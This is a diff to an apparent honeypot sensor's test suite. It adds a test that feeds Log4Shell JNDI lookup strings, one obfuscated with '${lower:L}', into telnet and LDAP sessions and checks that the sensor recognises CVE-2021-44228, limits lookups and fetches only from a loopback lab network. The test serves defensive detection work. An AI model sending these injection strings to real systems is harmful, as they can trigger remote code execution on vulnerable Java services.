@@ -10,6 +10,7 @@ from pathlib import Path
 
 from eudaemon.events import catalogue as facts
 from eudaemon.payload.fetch.policy import FetchSettings
+from eudaemon.sensor.session import LOOKUPS_MAX
 from sensor.harness import events, running
 
 LAB = FetchSettings(lab_networks=("127.0.0.0/8",))
@@ -156,4 +157,28 @@ async def test_stopping_does_not_wait_for_downloads(tmp_path: Path) -> None:
         writer.close()
         it.gate.set()
     assert events(tmp_path, "sensor.stopped")
+    assert not events(tmp_path, "sensor.faulted")
+
+
+async def test_what_is_logged_of_a_peer_is_looked_up(tmp_path: Path) -> None:
+    """Log4Shell in a user name and in a password, at rooms that know nothing of Java."""
+    asked: list[bytes] = []
+
+    async def directory(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
+        asked.append(await reader.read(100))
+
+    server = await asyncio.start_server(directory, "127.0.0.1", 0)
+    url = f"ldap://127.0.0.1:{server.sockets[0].getsockname()[1]}/x"
+    lab = FetchSettings(lab_networks=("127.0.0.0/8",), idle_s_max=0.05)
+    async with server, running(tmp_path, "telnet+ldap", fetch=lab) as sensor:
+        await sensor.say(url.replace("ldap", "root\r\n${jndi:${lower:L}dap", 1).encode() + b"}\r\n")
+        await sensor.until("download.finished")
+        tries = (b"cn=${jndi:ldap://127.0.0.1:9/%02d}" % number for number in range(LOOKUPS_MAX + 1))
+        await sensor.say(b"".join(b"\x30\x2d\2\1\1\x60\x28\2\1\3\4\x20%s\x80\1x" % name for name in tries))
+        await sensor.until("session.closed", count=2)
+    assert asked[0].startswith(b"\x30\x0c\2\1\1\x60")
+    found = [event.fact for event in events(tmp_path, "exploit.recognised")]
+    assert found[0] == facts.ExploitRecognised("log4shell", "CVE-2021-44228", url)
+    assert len(events(tmp_path, "login.tried")) == 1 + LOOKUPS_MAX + 1
+    assert len(found) == 1 + LOOKUPS_MAX
     assert not events(tmp_path, "sensor.faulted")
